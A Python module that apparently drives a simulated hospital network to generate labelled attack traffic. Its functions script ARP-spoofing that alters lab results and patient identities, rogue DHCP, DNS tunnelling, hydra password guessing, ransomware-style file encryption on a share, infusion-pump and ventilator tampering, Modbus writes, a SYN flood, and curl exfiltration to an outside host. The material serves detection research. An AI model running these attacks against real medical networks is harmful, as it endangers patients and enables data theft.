"""What each attack does. A story returns its source and its targets; ``attacks`` measures and labels it."""

from __future__ import annotations

import time

from lab import keeper
from lab.hospital.kinds.infusion_pump import program
from lab.hospital.network import Hospital
from lab.hospital.parts import dicom, hl7, records, services
from lab.hospital.topology import Device, Model

ROGUE = "rogue1"
ZONE = "t.stranger.example"
WORDS = ("root", "admin", "toor", "password", "123456", "service", "philips", "biomed", "letmein", "medical")
"""Passwords that a guesser tries first; none is right."""
MITM_SECONDS = 4.0
"""How long false ARP answers need until both sides believe them."""


def _one(hospital: Hospital, kind: str, number: int = 0) -> Device:
    return hospital.topology.of_kind(kind)[number]


def _office(hospital: Hospital, number: int) -> Device:
    """A workstation of the offices that somebody else has taken over."""
    offices = [device for device in hospital.topology.of_kind("workstation") if device.segment == "offices"]
    return offices[number % len(offices)]


def _do(hospital: Hospital, source: str, what: str, argv: list[str], seconds: float = 40.0) -> str:
    """Does it; an attack whose tool failed did not happen, and says so."""
    return hospital.do(source, what, argv, timeout_seconds=seconds)


def _try(hospital: Hospital, source: str, what: str, argv: list[str], seconds: float = 20.0) -> None:
    """Does what is expected to be refused."""
    hospital.do(source, what, argv, timeout_seconds=seconds, expect=None)


def rogue_device(hospital: Hospital) -> tuple[str, list[str]]:
    """Somebody plugs a small computer into a socket of a ward; it asks for an address and looks around."""
    maker = Model(
        vendor="Raspberry Pi",
        announced_vendor="",
        prefix="b8:27:eb",
        prefix_of="Raspberry Pi Foundation",
        model="",
        firmware="",
    )
    device = Device(
        name=ROGUE,
        kind="stranger",
        segment="wards",
        mac="b8:27:eb:66:06:66",
        serial="LAB0000666",
        model=maker,
        by="udhcpc",
        ip="",
        stack="linux",
    )
    hospital.plug(device)
    hospital.lasting(ROGUE, "asks for an address", ["udhcpc", "-f", "-i", "eth0", "-x", "hostname:raspberrypi"])
    hospital.keep_running(ROGUE)
    hospital.wait_for_address(ROGUE, timeout_seconds=30)
    return ROGUE, []


def sweep(hospital: Hospital) -> tuple[str, list[str]]:
    """Asks every address of a segment whether it is there."""
    source = _office(hospital, 0)
    network = str(hospital.topology.segments["imaging"].network)
    _do(hospital, source.name, "sweeps a segment", ["nmap", "-sn", "-n", "-T4", "--max-retries", "1", network], 60)
    return source.name, _static(hospital, "imaging")


def ports(hospital: Hospital) -> tuple[str, list[str]]:
    """Asks some hosts for the ports that hospitals have open, and for what is behind them."""
    source = _office(hospital, 0)
    targets = [_one(hospital, "pacs"), _one(hospital, "radiology_information_system")]
    wanted = "22,80,104,443,445,2575,2576,4106,5000,6661,6664,8042,11112"
    argv = ["nmap", "-sS", "-sV", "--version-light", "-n", "-Pn", "-T4", "-p", wanted, *(one.ip for one in targets)]
    _do(hospital, source.name, "looks for services", argv, 90)
    return source.name, [one.name for one in targets]


def default_password(hospital: Hospital) -> tuple[str, list[str]]:
    """Guesses root's password by ssh."""
    source, target = _office(hospital, 1), _one(hospital, "interface_engine")
    words = hospital.scratch / "words.txt"
    words.write_text("\n".join(WORDS) + "\n")
    argv = ["hydra", "-I", "-q", "-l", "root", "-P", str(words), "-t", "4", "-W", "1", f"ssh://{target.ip}"]
    _do(hospital, source.name, "guesses passwords (ssh)", argv, 60)
    return source.name, [target.name]


def broker_password(hospital: Hospital) -> tuple[str, list[str]]:
    """Guesses the password of the broker, one connection a guess."""
    source, target = _office(hospital, 1), _one(hospital, "broker")
    for word in WORDS:
        argv = ["mosquitto_pub", "-h", target.ip, "-u", "admin", "-P", word, "-t", "bed/x", "-n"]
        _try(hospital, source.name, "guesses a password (MQTT)", argv, 10)
    return source.name, [target.name]


def lateral(hospital: Hospital) -> tuple[str, list[str]]:
    """Copies a program to a share, for others to start."""
    source, target = _office(hospital, 2), _one(hospital, "storage")
    tool = hospital.scratch / "update.exe"
    tool.write_bytes(b"MZ" + bytes(range(256)) * 200)
    services.files(hospital, source.name, target.name, f"put {tool} update.exe; put {tool} setup.exe; ls")
    return source.name, [target.name]


def mass_change(hospital: Hospital) -> tuple[str, list[str]]:
    """Puts unreadable files in the place of readable ones, quickly."""
    source, target = _office(hospital, 2), _one(hospital, "storage")
    unreadable = hospital.scratch / "unreadable.bin"
    unreadable.write_bytes(bytes((n * 167 + 13) % 256 for n in range(3000)))
    clear = hospital.scratch / "clear.txt"
    clear.write_text("a page of a report\n" * 60)
    made = "; ".join(f"put {clear} report{n}.txt" for n in range(40))
    changed = "; ".join(
        f"get report{n}.txt /dev/null; put {unreadable} report{n}.txt; rename report{n}.txt report{n}.locked"
        for n in range(40)
    )
    services.files(hospital, source.name, target.name, made)
    services.files(hospital, source.name, target.name, changed)
    return source.name, [target.name]


def harvest(hospital: Hospital) -> tuple[str, list[str]]:
    """Asks the archive for every patient there is."""
    source, target = _office(hospital, 3), _one(hospital, "pacs")
    keys = ["-k", "QueryRetrieveLevel=PATIENT", "-k", "PatientName=*", "-k", "PatientID", "-k", "PatientBirthDate"]
    for letter in ("*", "T*", "TEST*", "A*", "S*", "M*"):
        keys[3] = f"PatientName={letter}"
        argv = ["/usr/bin/findscu", "-P", "-aet", "FINDSCU", "-aec", dicom.ARCHIVE, *keys, target.ip, "104"]
        _do(hospital, source.name, "asks for all patients", argv)
    return source.name, [target.name]


def altered_image(hospital: Hospital) -> tuple[str, list[str]]:
    """Sends an image in a scanner's name whose pixels were changed."""
    source, target, scanner = _office(hospital, 3), _one(hospital, "pacs"), _one(hospital, "ct")
    who = records.Patient(number=1, born="19500101", sex="O")
    dicom.make(hospital, [{**dicom.image_of(scanner, "CT", who, 1, hospital.week_began), "file": "altered.dcm"}])
    file = hospital.scratch / "images" / "altered.dcm"
    content = bytearray(file.read_bytes())
    content[-4096:-2048] = bytes(2048)  # the lower quarter becomes black: a finding less
    file.write_bytes(content)
    argv = ["/usr/bin/storescu", "-aet", dicom.title(scanner), "-aec", dicom.ARCHIVE, target.ip, "104", str(file)]
    _do(hospital, source.name, "sends an altered image", argv)
    return source.name, [target.name]


def _between(hospital: Hospital, source: Device, one: Device, other: Device, port: int, how: str) -> None:
    """Puts ``source`` between two hosts of its segment and lets a relay of ours change what ``one`` sends."""
    inside = hospital.hosts[source.name]
    inside.run(["sysctl", "-q", "-w", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0"])
    argv = [*hospital.python("mllp_tamper.py"), "9999", other.ip, str(port), how]
    hospital.lasting(source.name, f"changes messages on the way ({how})", argv, port=9999)
    hospital.settle()
    rules = (
        "table ip between {\n chain pre {\n  type nat hook prerouting priority -100;\n"
        f"  ip saddr {one.ip} ip daddr {other.ip} tcp dport {port} redirect to :9999\n }}\n}}\n"
    )
    inside.run(["nft", "-f", "-"], stdin=rules)
    for target, claimed in ((one, other), (other, one)):
        argv = ["arpspoof", "-i", "eth0", "-t", target.ip, claimed.ip]
        hospital.lasting(source.name, f"claims {claimed.name}'s address towards {target.name}", argv)
    time.sleep(MITM_SECONDS)


def _report_through(hospital: Hospital, how: str) -> tuple[str, list[str]]:
    sender = next(device for device in hospital.topology.of_kind("lab_analyser") if device.name.startswith("hema"))
    source = hospital.topology.of_kind("lab_analyser")[0]
    target = _one(hospital, "laboratory_information_system")
    _between(hospital, source, sender, target, hl7.PORT, how)
    who = records.Patient(number=2, born="19610101", sex="O")
    seen = [records.Observation(code="2823-3^Potassium^LN", value="4", unit="mmol/L")]
    for number in range(4):
        # The first may still go the straight way; then the sender believes the false ARP answers.
        message = records.device_results(sender, who, seen, f"T{number:06d}")
        hl7.send(hospital, sender.name, target.name, message, "reports results")
        time.sleep(MITM_SECONDS / 2)
    hospital.hosts[source.name].run(["nft", "delete", "table", "ip", "between"])
    relay = next(log for log in reversed(hospital.logs[source.name]) if log.name.endswith("python.log"))
    if "changed" not in relay.read_text(errors="replace"):
        raise RuntimeError("the relay changed no message: the false ARP answers were not believed")
    return source.name, [sender.name, target.name]


def tampered_result(hospital: Hospital) -> tuple[str, list[str]]:
    """Changes the values of results between an analyser and the laboratory's system."""
    return _report_through(hospital, "values")


def swapped_patient(hospital: Hospital) -> tuple[str, list[str]]:
    """Changes whose results they are, between an analyser and the laboratory's system."""
    return _report_through(hospital, "patients")


def rogue_dhcp(hospital: Hospital) -> tuple[str, list[str]]:
    """Offers addresses with itself as the way out, to a device that asks."""
    source = ROGUE if ROGUE in hospital.hosts else _one(hospital, "nurse_call").name
    base = hospital.topology.segments["wards"].network.network_address
    own = hospital.addresses(source)["ipv4"][0]
    argv = [
        "dnsmasq",
        "--keep-in-foreground",
        "--user=root",
        "--conf-file=/dev/null",
        "--port=0",
        "--no-ping",
        f"--dhcp-range={base + 60},{base + 90},255.255.255.0,120",
        f"--dhcp-option=3,{own}",
        f"--dhcp-option=6,{own}",
        "--log-facility=-",
        "--dhcp-authoritative",
    ]
    hospital.lasting(source, "offers addresses", argv, port=67, transport="udp")
    hospital.settle()
    victims = hospital.topology.of_kind("smart_bed")[:3]
    for victim in victims:
        # The victim only asks; it keeps the address that it has (-s true), so that the hospital goes on working.
        argv = ["udhcpc", "-f", "-n", "-q", "-t", "2", "-T", "2", "-i", "eth0", "-s", "/bin/true"]
        _try(hospital, victim.name, "asks for an address again", argv)
    return source, [victim.name for victim in victims]


def name_tunnel(hospital: Hospital) -> tuple[str, list[str]]:
    """Carries data out through the name service."""
    source, server = _office(hospital, 4), _one(hospital, "stranger")
    names = _one(hospital, "infrastructure_server")
    argv = ["iodined", "-f", "-c", "-P", "lab-only", "10.77.0.1", ZONE]
    hospital.lasting(server.name, "ends the tunnel", argv, port=53, transport="udp")
    hospital.settle()
    argv = ["iodine", "-f", "-r", "-P", "lab-only", "-I", "1", names.ip, ZONE]
    hospital.lasting(source.name, "begins the tunnel", argv)
    end = time.monotonic() + 25
    while time.monotonic() < end:
        there = hospital.hosts[source.name].run(["sh", "-c", "ip -o address show | grep -c 10.77.0."], check=False)
        if there.stdout.strip() not in ("", "0"):
            break
        time.sleep(0.5)
    _do(
        hospital,
        source.name,
        "sends through the tunnel",
        ["ping", "-c", "8", "-i", "0.3", "-s", "400", "10.77.0.1"],
        20,
    )
    return source.name, [names.name, server.name]


def wrong_pump(hospital: Hospital) -> tuple[str, list[str]]:
    """Programs infusion pumps from a host that is not their server."""
    source = _office(hospital, 5)
    targets = hospital.topology.of_kind("infusion_pump")[:3]
    for target in targets:
        program(hospital, source.name, target.name, records.Patient(number=3, born="19720101", sex="O"), 999)
    return source.name, [target.name for target in targets]


def alarm_limit(hospital: Hospital) -> tuple[str, list[str]]:
    """Raises the upper alarm limit of a ventilator by SDC, from a device that is no consumer of it."""
    source = _one(hospital, "blood_gas_analyser", 1)
    argv = [*hospital.python("sdc_consumer.py"), source.ip, "60"]
    said = hospital.do(source.name, "sets an alarm's limits (SDC)", argv, timeout_seconds=60)
    if "Fin" not in said:
        raise RuntimeError(f"the provider did not set the limits: {said[-200:]}")
    return source.name, [device.name for device in hospital.topology.of_kind("ventilator")[:1]]


def replay(hospital: Hospital) -> tuple[str, list[str]]:
    """Sends a monitor's readings to the central station again, from another host, and with other values."""
    from lab.hospital.kinds.patient_monitor import messages

    source, target = _one(hospital, "blood_gas_analyser"), _one(hospital, "central_station")
    monitor = _one(hospital, "patient_monitor")
    for message in messages(hospital, monitor)[:4]:
        hl7.send(hospital, source.name, target.name, message, "replays readings", port=hl7.DEVICE_PORT)
    return source.name, [target.name, monitor.name]


def strange_firmware(hospital: Hospital) -> tuple[str, list[str]]:
    """A cabinet fetches its firmware from a host that is not its maker's."""
    source, server = _one(hospital, "medication_cabinet"), _one(hospital, "stranger")
    inside = hospital.hosts[server.name]
    inside.path("/run/firmware").mkdir(exist_ok=True)
    inside.path("/run/firmware/fw.bin").write_bytes(bytes((n * n) % 251 for n in range(120_000)))
    argv = ["/usr/bin/python3", "-m", "http.server", "8000", "--directory", "/run/firmware"]
    hospital.lasting(server.name, "offers firmware", argv, port=8000)
    hospital.settle()
    argv = ["wget", "-q", "-T", "10", "-t", "1", "-O", "/dev/null", f"http://{server.ip}:8000/fw.bin"]
    _do(hospital, source.name, "fetches firmware", argv)
    return source.name, [server.name]


def beacon(hospital: Hospital) -> tuple[str, list[str]]:
    """Calls home, again and again."""
    source, server = _office(hospital, 6), _one(hospital, "stranger")
    for _ in range(10):
        services.fetch(hospital, source.name, f"https://{server.ip}/", server.name, program="curl")
        time.sleep(1.0)
    return source.name, [server.name]


def exfiltration(hospital: Hospital) -> tuple[str, list[str]]:
    """Sends a heap of data out."""
    source, server = _office(hospital, 6), _one(hospital, "stranger")
    heap = hospital.scratch / "heap.bin"
    heap.write_bytes(bytes((n * 31 + n // 7) % 256 for n in range(400_000)))
    argv = ["curl", "-sS", "-k", "-o", "/dev/null", "--max-time", "30", "--data-binary", f"@{heap}"]
    _do(hospital, source.name, "sends data out", [*argv, f"https://{server.ip}/"])
    return source.name, [server.name]


def flood(hospital: Hospital) -> tuple[str, list[str]]:
    """Floods the central station with connection requests: bounded in count."""
    source, target = _one(hospital, "blood_gas_analyser"), _one(hospital, "central_station")
    argv = ["hping3", "-q", "-S", "-p", str(hl7.DEVICE_PORT), "-c", "2000", "-i", "u1500", target.ip]
    _do(hospital, source.name, "floods (SYN)", argv, 30)
    return source.name, [target.name]


def wrong_register(hospital: Hospital) -> tuple[str, list[str]]:
    """Writes a register of the gas controller from an office."""
    source, target = _office(hospital, 5), _one(hospital, "industrial_controller")
    code = (
        "from pymodbus.client import ModbusTcpClient as C\n"
        f"c = C('{target.ip}', timeout=5)\nassert c.connect()\n"
        "print(c.read_holding_registers(0, count=4)); print(c.write_register(0, 120)); c.close()\n"
    )
    hospital.do(source.name, "writes a register", [hospital.command("python"), "-c", code], timeout_seconds=30)
    return source.name, [target.name]


def vendor_access(hospital: Hospital) -> tuple[str, list[str]]:
    """Comes in by the maker's remote access, and goes on from the jump host to where it has no business."""
    source = _one(hospital, "vendor_workstation")
    door, jump, archive = _one(hospital, "firewall"), _one(hospital, "jump_host"), _one(hospital, "pacs")
    onward = f"nmap -n -Pn -sT -T4 -p 22,104,443,2575 {archive.ip} {_one(hospital, 'ehr_server').ip}"
    onward += f"; curl -sk -o /dev/null --max-time 10 https://{archive.ip}/patients"
    argv = keeper.ssh_login(hospital.scratch, door.ip, onward, port=2222)
    _do(hospital, source.name, "goes on from the jump host", argv, 60)
    return source.name, [jump.name, archive.name, _one(hospital, "ehr_server").name]


def _static(hospital: Hospital, segment: str) -> list[str]:
    return [device.name for device in hospital.topology.devices.values() if device.segment == segment]
